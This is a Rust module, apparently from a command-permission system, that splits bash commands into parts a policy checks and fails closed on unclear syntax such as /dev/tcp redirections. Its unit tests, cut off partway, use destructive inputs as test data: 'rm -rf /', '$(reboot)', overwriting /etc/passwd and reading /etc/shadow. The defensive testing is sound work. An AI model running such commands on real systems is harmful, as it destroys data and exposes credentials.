//! Splits a bash command into the parts a policy decides one by one: every
//! simple command (those inside `$( … )`, backticks, subshells, groups,
//! `if`/`for`/`while`/`case` included) with its words as bash will pass
//! them, every variable assignment, and every redirection to or from a file.
//!
//! Parsing is `brush-parser`'s (the parser of the brush shell, written for
//! bash compatibility, MIT): a hand-written tokenizer would have to get
//! quoting, escapes, here-documents, nested substitutions and line
//! continuations exactly as bash does, and every place it differs from bash
//! is a way past the policy. This module walks brush's AST and words, and
//! turns everything it does not fully understand into an [`Unchecked`]
//! part, which a policy must never let run unreviewed.
//!
//! Understood: plain words, single and double quotes, `$'…'` (decoded),
//! escapes, globs (a `[` closed by a `]` further on, even after quoted
//! text), `~` (also after the `=` and the `:`s of a word shaped like an
//! assignment, as bash expands them: `dd if=~/x`), `$x`, `${x}`, `${#x}`,
//! `$1`, `$@`, command substitution (its commands become parts, with the
//! assignments before it in the command's environment), pipelines, lists,
//! redirections to literal files or descriptors, here-strings, and compound
//! commands. Failing closed: every parameter expansion with an operator
//! (`${x:-…}`, `${x#…}`, `${!x}`, …: brush re-parses their nested words
//! without their quoting), process substitution, brace expansion,
//! arithmetic (`$(( ))`, `(( ))`, `for ((…))`, array subscripts: bash
//! evaluates `a[$(cmd)]`), `((` that opens nested subshells, parentheses
//! inside a word (extglob), here-documents, function definitions,
//! `[[ … ]]`, `coproc`, backticks holding a backslash, `$'…'` that does not
//! decode to plain ASCII or holds a backslash-newline, redirections from a
//! computed file or from bash's `/dev/tcp`, commands longer than
//! [`MAX_LEN`] or nested deeper than [`MAX_DEPTH`] (the parser recurses),
//! and anything the parser rejects or panics on.
//!
//! `tests/bash_differential.rs` runs thousands of generated commands
//! through bash and checks that bash runs what this module says.

use std::io::Cursor;
use std::panic::{AssertUnwindSafe, catch_unwind};

use brush_parser::ast::{
    self, CommandPrefixOrSuffixItem as Item, IoFileRedirectKind as Kind, IoFileRedirectTarget as Target,
};
use brush_parser::word::{self as bword, Parameter, ParameterExpr, WordPiece, WordPieceWithSource};
use brush_parser::{Parser, ParserOptions};

use crate::word::{Word, WordBuilder, decode_ansi_c, has_brace_expansion};

/// Longer commands are not checked.
pub const MAX_LEN: usize = 64 * 1024;
/// Deeper nesting of `(`, `{` and substitutions is not checked.
pub const MAX_DEPTH: usize = 32;

/// A bash command split into its parts, in the order bash meets them.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Script {
    pub parts: Vec<Part>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    Command(Command),
    /// A shell variable set without a command (`x=1`, a `for` loop's variable).
    Assignment(Assignment),
    Redirect(Redirect),
    Unchecked(Unchecked),
}

/// A simple command: its words as bash passes them, and the variables set
/// for it alone (`LANG=C ls`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<Word>,
    pub env: Vec<Assignment>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    pub name: String,
    pub value: Word,
}

/// A redirection to or from a file (not `2>&1`, not `/dev/null`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// As written, with its descriptor: `>`, `2>>`, `&>`, `<`.
    pub op: String,
    pub target: Word,
    /// It writes the file (else it reads it).
    pub writes: bool,
}

/// Syntax the analysis does not check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unchecked {
    /// What it is, in a few words: `process substitution`.
    pub what: &'static str,
    /// Where, or how to do without it.
    pub detail: String,
}

impl Part {
    /// The part as one line: its words joined by spaces, quotes removed.
    pub fn text(&self) -> String {
        match self {
            Part::Command(c) => c.text(),
            Part::Assignment(a) => format!("{}={}", a.name, a.value.text),
            Part::Redirect(r) => format!("{} {}", r.op, r.target.text),
            Part::Unchecked(u) => format!("({}: {})", u.what, u.detail),
        }
    }
}

impl Command {
    /// The words joined by single spaces, without the leading assignments.
    pub fn text(&self) -> String {
        join(&self.words)
    }
}

/// Words joined by single spaces.
pub fn join(words: &[Word]) -> String {
    words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ")
}

impl Script {
    pub fn unchecked(&self) -> impl Iterator<Item = &Unchecked> {
        self.parts.iter().filter_map(|p| match p {
            Part::Unchecked(u) => Some(u),
            _ => None,
        })
    }
}

/// Splits a command into parts. Never fails: what cannot be analysed
/// becomes an [`Unchecked`] part.
pub fn analyse(command: &str) -> Script {
    let mut w = Walker { parts: Vec::new(), depth: 0 };
    if command.len() > MAX_LEN {
        w.unchecked("over-long command", format!("it is {} bytes long, more than {MAX_LEN}", command.len()));
    } else if command.contains('\0') {
        w.unchecked("unparseable command", "it contains a NUL byte".into());
    } else if has_here_document(command) {
        // Checked before parsing: besides failing closed anyway, brush-parser
        // 0.4 allocates without bound on some here-document tags (`<<$(( )`).
        w.unchecked(
            "here-document",
            "here-documents (<<) are not checked; pass the text as an argument or with <<< instead".into(),
        );
    } else if has_ansi_c_continuation(command) {
        w.unchecked(
            "line continuation in an ANSI-C string",
            "inside $'…' bash keeps a backslash before a newline; write \\n instead".into(),
        );
    } else if nesting(command) > MAX_DEPTH {
        w.unchecked("deeply nested command", format!("it nests more than {MAX_DEPTH} levels of brackets"));
    } else {
        w.program(command);
        // Arithmetic is refused on its own; what is left is `(( … ) )`.
        if has_double_paren(command) && !w.parts.iter().any(|p| matches!(p, Part::Unchecked(_))) {
            w.unchecked(
                "`((` that is not arithmetic",
                "bash re-reads a `((` that is not arithmetic after decoding its $'…' strings, and not \
                 always as written; group the inner commands with { …; } instead"
                    .into(),
            );
        }
    }
    Script { parts: w.parts }
}

/// Is there a `<<` that is not part of a `<<<` here-string? Quoting is not
/// looked at: `echo '<<'` fails closed too.
fn has_here_document(command: &str) -> bool {
    let b = command.as_bytes();
    (0..b.len().saturating_sub(1))
        .any(|i| b[i] == b'<' && b[i + 1] == b'<' && (i == 0 || b[i - 1] != b'<') && b.get(i + 2) != Some(&b'<'))
}

/// Is there a `((` that does not start an arithmetic expansion? As a
/// command it is arithmetic (refused anyway) unless bash finds no `))` to
/// close it; then it re-reads the text as nested subshells from a copy in
/// which each `$'…'` has been decoded and quoted again, and that copy
/// differs from what was written: in `(( ls $'\1' ); ls)`, the first `ls`
/// gets two bytes 0x01. Quoting is not looked at.
fn has_double_paren(command: &str) -> bool {
    command.match_indices("((").any(|(i, _)| !command[..i].ends_with('$'))
}

/// Is there a backslash-newline inside a `$'…'`? Bash keeps both
/// characters there, where brush-parser 0.4 drops them as a line
/// continuation (`ls $'a\<newline>b'` would pass `ab`). Every `$'` is taken
/// for the start of one, quoted or not, which only refuses more; a scan
/// ends at the next unescaped `'`, so the whole takes linear time.
fn has_ansi_c_continuation(command: &str) -> bool {
    let b = command.as_bytes();
    (0..b.len().saturating_sub(1)).filter(|&i| b[i] == b'$' && b[i + 1] == b'\'').any(|start| {
        let mut i = start + 2;
        while i < b.len() {
            match b[i] {
                b'\'' => return false,
                b'\\' if b.get(i + 1) == Some(&b'\n') => return true,
                b'\\' => i += 2,
                _ => i += 1,
            }
        }
        false
    })
}

/// An upper bound on how deeply the parser will recurse: brackets are
/// counted wherever they are, quoted or not.
fn nesting(command: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for c in command.chars() {
        match c {
            '(' | '{' | '`' => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max.max(command.matches('`').count())
}

/// Bash as the claude CLI runs a command: through `eval`, extglob off.
fn options() -> ParserOptions {
    ParserOptions { enable_extended_globbing: false, ..ParserOptions::default() }
}

/// An assignment's value, where a `~` after a `:` expands too. (brush
/// takes `\:~` for one, which bash does not: that only makes a literal
/// word look computed.)
fn value_options() -> ParserOptions {
    ParserOptions { tilde_expansion_after_colon: true, ..options() }
}

/// What bash's parser takes for an assignment, wherever the word stands.
enum AssignmentShape {
    /// `name=…` or `name+=…`, with the index of the `=`.
    Name(usize),
    /// `name[…]=…`, or something that starts like it.
    Subscript,
}

/// Is the word, as written, shaped like an assignment? Bash marks such a
/// word wherever it is (an argument, a `for` value, a redirection's
/// target) and expands a `~` after its `=` and after each `:`, outside
/// POSIX mode: `echo x=~` prints `x=/home/…`. Quoting any part of the name
/// (`"x"=~`, `x\=~`) keeps it a plain word.
fn assignment_shape(raw: &str) -> Option<AssignmentShape> {
    let b = raw.as_bytes();
    if !b.first().is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
        return None;
    }
    for (i, c) in b.iter().enumerate().skip(1) {
        match c {
            b'=' => return Some(AssignmentShape::Name(i)),
            b'+' if b.get(i + 1) == Some(&b'=') => return Some(AssignmentShape::Name(i + 1)),
            b'[' => return Some(AssignmentShape::Subscript),
            c if c.is_ascii_alphanumeric() || *c == b'_' => {}
            _ => return None,
        }
    }
    None
}

struct Walker {
    parts: Vec<Part>,
    depth: usize,
}

impl Walker {
    fn unchecked(&mut self, what: &'static str, detail: String) {
        self.parts.push(Part::Unchecked(Unchecked { what, detail }));
    }

    /// Parse and walk a whole program: the command, or the inside of a
    /// command substitution.
    fn program(&mut self, src: &str) {
        if self.depth > MAX_DEPTH {
            return self.unchecked("deeply nested command", format!("it nests more than {MAX_DEPTH} levels"));
        }
        let parsed =
            catch_unwind(AssertUnwindSafe(|| Parser::new(Cursor::new(src.as_bytes()), &options()).parse_program()));
        match parsed {
            Ok(Ok(program)) => {
                self.depth += 1;
                for list in &program.complete_commands {
                    self.list(list);
                }
                self.depth -= 1;
            }
            Ok(Err(e)) => self.unchecked("unparseable command", e.to_string()),
            Err(_) => self.unchecked("unparseable command", "the shell parser failed on it".into()),
        }
    }

    fn list(&mut self, list: &ast::CompoundList) {
        if self.depth > MAX_DEPTH {
            return self.unchecked("deeply nested command", format!("it nests more than {MAX_DEPTH} levels"));
        }
        self.depth += 1;
        for ast::CompoundListItem(and_or, _separator) in &list.0 {
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p),
                }
            }
        }
        self.depth -= 1;
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline) {
        for command in &pipeline.seq {
            self.command(command);
        }
    }

    fn command(&mut self, command: &ast::Command) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple),
            ast::Command::Compound(compound, redirects) => {
                self.compound(compound);
                for r in redirects.iter().flat_map(|r| &r.0) {
                    self.redirect(r);
                }
            }
            ast::Command::Function(_) => {
                self.unchecked("function definition", "a function can shadow any command name".into())
            }
            ast::Command::ExtendedTest(..) => self.unchecked(
                "[[ … ]] test",
                "bash evaluates its arithmetic operands, which can run commands; use [ … ] instead".into(),
            ),
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand) {
        use ast::CompoundCommand as C;
        match compound {
            C::BraceGroup(g) => self.list(&g.list),
            C::Subshell(s) => self.list(&s.list),
            C::ForClause(f) => {
                for v in f.values.iter().flatten() {
                    self.word(&v.value);
                }
                let mut value = WordBuilder::default();
                value.push_dynamic("(each value)", false);
                self.parts.push(Part::Assignment(Assignment { name: f.variable_name.clone(), value: value.finish() }));
                self.list(&f.body.list);
            }
            C::CaseClause(c) => {
                self.word(&c.value.value);
                for item in &c.cases {
                    for p in &item.patterns {
                        self.word(&p.value);
                    }
                    if let Some(body) = &item.cmd {
                        self.list(body);
                    }
                }
            }
            C::IfClause(i) => {
                self.list(&i.condition);
                self.list(&i.then);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c);
                    }
                    self.list(&e.body);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.list(&w.0);
                self.list(&w.1.list);
            }
            C::Arithmetic(_) | C::ArithmeticForClause(_) => {
                self.unchecked("arithmetic", "bash arithmetic can run commands through array subscripts".into())
            }
            C::Coprocess(_) => self.unchecked("coproc", "coprocesses are not checked".into()),
        }
    }

    fn simple(&mut self, cmd: &ast::SimpleCommand) {
        let mut env: Vec<Assignment> = Vec::new();
        let mut words: Vec<Word> = Vec::new();
        let mut redirects: Vec<&ast::IoRedirect> = Vec::new();
        // With a command to run, bash puts each assignment in the command's
        // environment before it expands the next one: `y=1 x=$(ls) cat` runs
        // `ls` with `y` set.
        let runs_command = cmd.word_or_name.is_some()
            || cmd.prefix.iter().flat_map(|p| &p.0).any(|i| matches!(i, Item::Word(_) | Item::ProcessSubstitution(..)));
        for item in cmd.prefix.iter().flat_map(|p| &p.0) {
            match item {
                Item::AssignmentWord(a, _) => {
                    let first = self.parts.len();
                    if let Some(a) = self.assignment(a) {
                        if runs_command {
                            for part in &mut self.parts[first..] {
                                if let Part::Command(c) = part {
                                    c.env.splice(0..0, env.iter().cloned());
                                }
                            }
                        }
                        env.push(a);
                    }
                }
                Item::IoRedirect(r) => redirects.push(r),
                Item::Word(w) => words.push(self.word(&w.value)),
                Item::ProcessSubstitution(..) => {
                    words.push(Word::literal("<(…)"));
                    self.process_substitution();
                }
            }
        }
        if let Some(name) = &cmd.word_or_name {
            words.push(self.word(&name.value));
        }
        for item in cmd.suffix.iter().flat_map(|s| &s.0) {
            match item {
                // `export A=1`, `declare x=…`: an argument like any other.
                Item::AssignmentWord(_, raw) | Item::Word(raw) => words.push(self.word(&raw.value)),
                Item::IoRedirect(r) => redirects.push(r),
                Item::ProcessSubstitution(..) => {
                    words.push(Word::literal("<(…)"));
                    self.process_substitution();
                }
            }
        }
        if !redirects.is_empty() && words.iter().any(|w| w.is_literal() && names_descriptor(&w.text)) {
            // brush reads `{fd}>out` as a word and a redirection; bash as a
            // redirection to a new descriptor it stores in `fd`.
            self.unchecked(
                "named file descriptor",
                "`{name}` before a redirection opens a descriptor; write the redirection without it".into(),
            );
        }
        if words.is_empty() {
            self.parts.extend(env.into_iter().map(Part::Assignment));
        } else {
            self.parts.push(Part::Command(Command { words, env }));
        }
        for r in redirects {
            self.redirect(r);
        }
    }

    /// An assignment with its value checked for substitutions; `None` when it
    /// assigns an array (element subscripts are arithmetic). The value of
    /// `x+=…` is not known: it is appended to what `x` holds.
    fn assignment(&mut self, a: &ast::Assignment) -> Option<Assignment> {
        let ast::AssignmentName::VariableName(name) = &a.name else {
            self.unchecked("array element assignment", "its subscript is evaluated as arithmetic".into());
            return None;
        };
        match &a.value {
            ast::AssignmentValue::Scalar(w) => {
                let mut value = self.value(&w.value);
                if a.append {
                    let mut appended = WordBuilder::default();
                    appended.push_dynamic(&format!("${{{name}}}{}", value.text), value.splits);
                    value = appended.finish();
                }
                Some(Assignment { name: name.clone(), value })
            }
            ast::AssignmentValue::Array(items) => {
                for (index, value) in items {
                    if index.is_some() {
                        self.unchecked("array element assignment", "its subscript is evaluated as arithmetic".into());
                    }
                    self.word(&value.value);
                }
                let mut value = WordBuilder::default();
                value.push_dynamic("(…)", false);
                Some(Assignment { name: name.clone(), value: value.finish() })
            }
        }
    }

    fn process_substitution(&mut self) {
        self.unchecked(
            "process substitution",
            "<( … ) and >( … ) are not checked; run the inner command on its own, or use a pipe".into(),
        );
    }

    fn redirect(&mut self, r: &ast::IoRedirect) {
        let fd = |fd: &Option<i32>| fd.map(|n| n.to_string()).unwrap_or_default();
        match r {
            ast::IoRedirect::File(n, kind, target) => {
                let op = match kind {
                    Kind::Read => "<",
                    Kind::Write => ">",
                    Kind::Append => ">>",
                    Kind::ReadAndWrite => "<>",
                    Kind::Clobber => ">|",
                    Kind::DuplicateInput => "<&",
                    Kind::DuplicateOutput => ">&",
                };
                let writes = !matches!(kind, Kind::Read | Kind::DuplicateInput);
                match target {
                    Target::Filename(w) => {
                        let w = self.word(&w.value);
                        self.file_redirect(format!("{}{op}", fd(n)), w, writes);
                    }
                    Target::Fd(_) => {}
                    Target::Duplicate(w) => {
                        let w = self.word(&w.value);
                        // `>&2`, `2>&1`, `>&-` move or close descriptors;
                        // `>&file` is bash for `&> file`.
                        let descriptor =
                            w.is_literal() && (w.text == "-" || w.text.bytes().all(|b| b.is_ascii_digit()));
                        if !descriptor {
                            self.file_redirect(format!("{}{op}", fd(n)), w, writes);
                        }
                    }
                    Target::ProcessSubstitution(..) => self.process_substitution(),
                }
            }
            ast::IoRedirect::OutputAndError(w, append) => {
                let w = self.word(&w.value);
                self.file_redirect(if *append { "&>>" } else { "&>" }.to_string(), w, true);
            }
            ast::IoRedirect::HereString(_, w) => {
                self.word(&w.value);
            }
            ast::IoRedirect::HereDocument(..) => self.unchecked(
                "here-document",
                "here-documents (<<) are not checked; pass the text as an argument instead".into(),
            ),
        }
    }

    fn file_redirect(&mut self, op: String, target: Word, writes: bool) {
        const HARMLESS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/stdin"];
        if target.is_literal() && HARMLESS.contains(&target.text.as_str()) {
            return;
        }
        if !writes && !target.is_literal() {
            // Bash opens a network connection for `< /dev/tcp/host/port`.
            return self.unchecked(
                "computed input redirection",
                format!("the file `{}` is computed when it runs; name it literally", target.text),
            );
        }
        if target.is_literal() && (target.text.starts_with("/dev/tcp/") || target.text.starts_with("/dev/udp/")) {
            return self.unchecked("network redirection", format!("`{}` opens a network connection", target.text));
        }
        self.parts.push(Part::Redirect(Redirect { op, target, writes }));
    }

    /// Quote removal and the substitutions inside a word: commands found in
    /// it become parts of their own. A word shaped like an assignment is
    /// expanded as one, wherever it stands: `dd if=~/x` reads `/home/…/x`.
    fn word(&mut self, raw: &str) -> Word {
        match assignment_shape(raw) {
            Some(AssignmentShape::Name(eq)) => {
                let (name, value) = raw.split_at(eq + 1);
                self.parse_word(value, value_options(), name)
            }
            Some(AssignmentShape::Subscript) if raw.contains('~') => {
                self.unchecked(
                    "tilde in an assignment-like word",
                    format!("`{raw}`: bash may expand its `~`; write the path out"),
                );
                self.parse_word(raw, options(), "")
            }
            _ => self.parse_word(raw, options(), ""),
        }
    }

    /// The value of an assignment: bash expands a `~` at its start and after
    /// each `:` (`PATH=~/bin:~/sbin`).
    fn value(&mut self, raw: &str) -> Word {
        self.parse_word(raw, value_options(), "")
    }

    /// `raw` parsed and walked after `fixed`, unquoted literal text bash
    /// leaves as it is (the `x=` of `x=~`).
    fn parse_word(&mut self, raw: &str, options: ParserOptions, fixed: &str) -> Word {
        match catch_unwind(AssertUnwindSafe(|| bword::parse(raw, &options))) {
            Ok(Ok(pieces)) => {
                let mut out = WordBuilder::default();
                out.push_literal(fixed);
                let mut unquoted = fixed.to_string();
                self.pieces(raw, &pieces, false, options.tilde_expansion_after_colon, &mut out, &mut unquoted);
                if has_brace_expansion(&unquoted) {
                    self.unchecked("brace expansion", format!("`{fixed}{raw}` expands braces; write each word out"));
                }
                out.finish()
            }
            Ok(Err(e)) => self.unparseable_word(&format!("{fixed}{raw}"), e.to_string()),
            Err(_) => self.unparseable_word(&format!("{fixed}{raw}"), "the shell parser failed on it".into()),
        }
    }

    fn unparseable_word(&mut self, raw: &str, why: String) -> Word {
        self.unchecked("unparseable word", format!("{raw:?}: {why}"));
        let mut w = WordBuilder::default();
        w.push_dynamic(raw, true);
        w.finish()
    }

    /// `unquoted` collects the word's unquoted text, where braces expand;
    /// `after_colon`: bash expands a `~` after a `:` (an assignment's value).
    fn pieces(
        &mut self,
        src: &str,
        pieces: &[WordPieceWithSource],
        quoted: bool,
        after_colon: bool,
        out: &mut WordBuilder,
        unquoted: &mut String,
    ) {
        for (n, p) in pieces.iter().enumerate() {
            let written = src.get(p.start_index..p.end_index).unwrap_or("…");
            match &p.piece {
                WordPiece::Text(s) => {
                    if quoted {
                        out.push_literal(s);
                        continue;
                    }
                    unquoted.push_str(s);
                    if s.contains(['(', ')']) {
                        // Extglob or a process substitution brush kept as text.
                        self.unchecked("parentheses in a word", format!("`{written}` is not checked; quote it"));
                    }
                    let colon_before = p.start_index > 0 && src.as_bytes().get(p.start_index - 1) == Some(&b':');
                    let tilde = tilde_left_as_text(s, n == 0, after_colon, colon_before);
                    let rest = src.get(p.end_index..).unwrap_or_default();
                    match [glob_start(s, rest), tilde].into_iter().flatten().min() {
                        Some(i) => {
                            out.push_literal(&s[..i]);
                            out.push_dynamic(&s[i..], false);
                        }
                        None => out.push_literal(s),
                    }
                }
                WordPiece::SingleQuotedText(s) => {
                    out.push_literal(s);
                    unquoted.push('_');
                }
                WordPiece::AnsiCQuotedText(s) => match decode_ansi_c(s) {
                    Ok(text) => {
                        out.push_literal(&text);
                        unquoted.push('_');
                    }
                    Err(e) => {
                        self.unchecked("ANSI-C string", format!("`{written}` is not decoded: {}", e.0));
                        out.push_dynamic(written, false);
                    }
                },
                WordPiece::DoubleQuotedSequence(inner) | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(src, inner, true, after_colon, out, unquoted);
                    unquoted.push('_');
                }
                WordPiece::EscapeSequence(s) => {
                    let c = s.strip_prefix('\\').unwrap_or(s);
                    if c != "\n" {
                        out.push_literal(c);
                    }
                    unquoted.push('_');
                }
                WordPiece::TildeExpansion(_) => out.push_tilde(written),
                WordPiece::ParameterExpansion(expr) => {
                    self.parameter(expr, written);
                    // `"$@"` and `"${a[@]}"` become one word per element, quoted or not.
                    out.push_dynamic(written, !quoted || every_element(expr));
                }
                WordPiece::CommandSubstitution(inner) => {
                    out.push_dynamic(&format!("$({inner})"), !quoted);
                    self.program(inner);
                }
                WordPiece::BackquotedCommandSubstitution(inner) => {
                    out.push_dynamic(&format!("`{inner}`"), !quoted);
                    if quoted {
                        // Bash's brace expansion does not see backticks inside
                        // double quotes: in "`ls "{a,b}"`" the inner quotes
                        // close and reopen the outer ones, and `ls` runs twice,
                        // with `a` and with `b`.
                        self.unchecked("backticks inside double quotes", "write $( … ) instead".into());
                    } else if written.contains('\\') {
                        // Inside backticks bash removes a level of backslashes
                        // before parsing (`\$(…)` becomes a substitution), and
                        // brush only some of them; rather than imitate, refuse.
                        self.unchecked("backticks with backslashes", "write $( … ) instead".into());
                    } else {
                        self.program(inner);
                    }
                }
                WordPiece::ArithmeticExpression(_) => {
                    out.push_dynamic(written, !quoted);
                    self.unchecked(
                        "arithmetic expansion",
                        "bash arithmetic can run commands through array subscripts".into(),
                    );
                }
            }
        }
    }

    /// Only expansions that read a variable as it is pass: `$x`, `${x}`,
    /// `${#x}`, `$1`, `$@`, `${x[@]}`. Every operator (`${x:-word}`,
    /// `${x#pat}`, `${x/a/b}`, `${!x}`, `${x@P}`, subscripts) is unchecked:
    /// brush re-parses their nested words without their quoting, and some
    /// assign, evaluate arithmetic or expand prompts.
    fn parameter(&mut self, expr: &ParameterExpr, written: &str) {
        use ParameterExpr as P;
        let plain = |p: &Parameter, indirect: bool| {
            !indirect
                && matches!(
                    p,
                    Parameter::Positional(_)
                        | Parameter::Special(_)
                        | Parameter::Named(_)
                        | Parameter::NamedWithAllIndices { .. }
                )
        };
        let ok = match expr {
            P::Parameter { parameter, indirect } | P::ParameterLength { parameter, indirect } => {
                plain(parameter, *indirect)
            }
            _ => false,
        };
        if !ok {
            self.unchecked(
                "parameter expansion",
                format!("`{written}` is not checked: only $x, ${{x}}, ${{#x}} and $1-like forms are"),
            );
        }
    }
}

/// Is the word `{name}`, which bash takes for a redirection's descriptor
/// variable when a redirection follows it directly (`{fd}>out`)?
fn names_descriptor(word: &str) -> bool {
    word.strip_prefix('{').and_then(|w| w.strip_suffix('}')).is_some_and(|name| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Where in unquoted text brush-parser left a `~` that bash may expand:
/// one starting the word (or, `after_colon`, following a `:`) that brush
/// did not take for a tilde expansion. Bash ends the user name at `/`, `:`
/// or `=~` and expands it if the user exists (`~root=~` is `/root=~`);
/// brush ends it at `/`, `:`, `;`, `}` or the word's end only.
fn tilde_left_as_text(s: &str, word_start: bool, after_colon: bool, colon_before: bool) -> Option<usize> {
    if s.starts_with('~') && (word_start || (after_colon && colon_before)) {
        return Some(0);
    }
    if after_colon { s.find(":~").map(|i| i + 1) } else { None }
}

/// Does this expansion give one word per element (`$@`, `${a[@]}`)?
fn every_element(expr: &ParameterExpr) -> bool {
    use brush_parser::word::SpecialParameter;
    matches!(
        expr,
        ParameterExpr::Parameter {
            parameter: Parameter::Special(SpecialParameter::AllPositionalParameters { concatenate: false })
                | Parameter::NamedWithAllIndices { concatenate: false, .. },
            ..
        }
    )
}

/// Where the first glob character of unquoted text is: `*`, `?`, or a `[`
/// that a `]` may close (a lone `[` is the test command). `rest` is what
/// follows the text in the word as written: the `]` may be there, after
/// quoted text (`['-']rf` matches a file `-rf`), or come from an expansion.
fn glob_start(s: &str, rest: &str) -> Option<usize> {
    let star = s.find(['*', '?']);
    let bracket = s.find('[').filter(|&i| s[i + 1..].contains(']') || rest.contains([']', '$', '`']));
    match (star, bracket) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(command: &str) -> Vec<String> {
        analyse(command).parts.iter().map(Part::text).collect()
    }

    fn unchecked(command: &str) -> Vec<&'static str> {
        analyse(command).unchecked().map(|u| u.what).collect()
    }

    fn command(text: &str) -> Command {
        match analyse(text).parts.into_iter().next() {
            Some(Part::Command(c)) => c,
            other => panic!("{text}: {other:?}"),
        }
    }

    #[test]
    fn operators_split_a_command_into_simple_commands() {
        assert_eq!(texts("ls /tmp; touch /tmp/pwned"), ["ls /tmp", "touch /tmp/pwned"]);
        assert_eq!(texts("a && b || c | d & e\nf"), ["a", "b", "c", "d", "e", "f"]);
        assert_eq!(texts("(cd /x && ls) | { grep a; wc -l; }"), ["cd /x", "ls", "grep a", "wc -l"]);
    }

    #[test]
    fn quotes_are_removed_and_do_not_split() {
        assert_eq!(texts("echo 'a; rm -rf /'"), ["echo a; rm -rf /"]);
        assert_eq!(texts(r#"echo "a | b" c\;d"#), ["echo a | b c;d"]);
        assert_eq!(texts("zpool   status\t-x"), ["zpool status -x"]);
        let c = command("grep 'a b' \"c d\" e");
        assert_eq!(c.words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>(), ["grep", "a b", "c d", "e"]);
        assert!(c.words.iter().all(Word::is_literal));
    }

    #[test]
    fn ansi_c_strings_are_decoded_into_the_words_bash_runs() {
        let c = command("$'\\x72m' -rf $'/\\x74mp'");
        assert_eq!(c.text(), "rm -rf /tmp");
        assert!(c.words.iter().all(Word::is_literal));
        assert_eq!(unchecked("echo $'\\u00e9'"), ["ANSI-C string"]);
        assert_eq!(unchecked("echo $'a\\0b'"), ["ANSI-C string"]);
    }

    #[test]
    fn substitutions_are_parts_of_their_own() {
        assert_eq!(texts("echo $(rm -rf /)"), ["rm -rf /", "echo $(rm -rf /)"]);
        assert_eq!(texts("echo `rm -rf /`"), ["rm -rf /", "echo `rm -rf /`"]);
        assert_eq!(texts("echo \"x$(id)\""), ["id", "echo x$(id)"]);
        assert_eq!(texts("X=$(reboot) ls"), ["reboot", "ls"]);
        assert_eq!(texts("echo $\"a$(reboot)\""), ["reboot", "echo a$(reboot)"]);
        assert_eq!(texts("ls \"$(echo \"$(reboot)\")\""), ["reboot", "echo $(reboot)", "ls $(echo \"$(reboot)\")"]);
        assert_eq!(texts("grep x <<< \"$(reboot)\""), ["grep x", "reboot"]);
        assert_eq!(texts("a=(x $(reboot))"), ["reboot", "a=(…)"]);
    }

    #[test]
    fn every_element_expansions_split_even_when_quoted() {
        let c = command("ls \"$@\" \"${a[@]}\" \"$*\" \"$x\"");
        let splits: Vec<bool> = c.words[1..].iter().map(|w| w.splits).collect();
        assert_eq!(splits, [true, true, false, false]);
    }

    #[test]
    fn dynamic_words_know_their_fixed_prefix_and_whether_they_split() {
        let c = command("ls /var/log/$f \"$g\" /a/*.gz ~/x");
        let w = &c.words;
        assert_eq!((w[1].prefix(), w[1].splits, w[1].may_be_option), ("/var/log/", true, true));
        assert_eq!((w[2].prefix(), w[2].splits, w[2].may_be_option), ("", false, true));
        assert_eq!((w[3].prefix(), w[3].splits, w[3].may_be_option), ("/a/", false, false));
        assert!(!w[4].is_literal() && !w[4].may_be_option);
        let c = command("ls \"/var/$f\"");
        assert!(!c.words[1].may_be_option);
    }

    #[test]
    fn leading_assignments_are_the_commands_environment() {
        let c = command("FOO=1 LANG=C ls -la");
        assert_eq!(c.text(), "ls -la");
        assert_eq!(
            c.env.iter().map(|a| (a.name.as_str(), a.value.text.as_str())).collect::<Vec<_>>(),
            [("FOO", "1"), ("LANG", "C")]
        );
        assert!(matches!(&analyse("X=1").parts[..], [Part::Assignment(a)] if a.name == "X"));
    }

    #[test]
    fn redirections_to_files_are_parts_and_harmless_ones_are_not() {
        assert_eq!(texts("ls > /etc/passwd"), ["ls", "> /etc/passwd"]);
        assert_eq!(texts("ls >> log 2>&1"), ["ls", ">> log"]);
        assert_eq!(texts("ls &> out"), ["ls", "&> out"]);
        assert_eq!(texts("ls >& out"), ["ls", ">& out"]);
        assert_eq!(texts("ls 3<> f"), ["ls", "3<> f"]);
        assert_eq!(texts("ls >| f"), ["ls", ">| f"]);
        assert_eq!(texts("ls 2>/dev/null >&2 2>&1 >&- &>/dev/null"), ["ls"]);
        assert_eq!(texts("{ ls; } > out"), ["ls", "> out"]);
        assert_eq!(texts("> /tmp/x"), ["> /tmp/x"]);
        assert_eq!(texts("wc -l < /etc/shadow"), ["wc -l", "< /etc/shadow"]);
        let parts = analyse("ls > $F").parts;
        assert!(matches!(&parts[1], Part::Redirect(r) if r.writes && !r.target.is_literal()));
    }

    #[test]
    fn control_flow_is_walked() {
        assert_eq!(texts("for f in a $(b); do tail $f; done"), ["b", "f=(each value)", "tail $f"]);
        assert_eq!(
            texts("if test -f x; then cat x; elif a; then b; else c; fi"),
            ["test -f x", "cat x", "a", "b", "c"]
        );
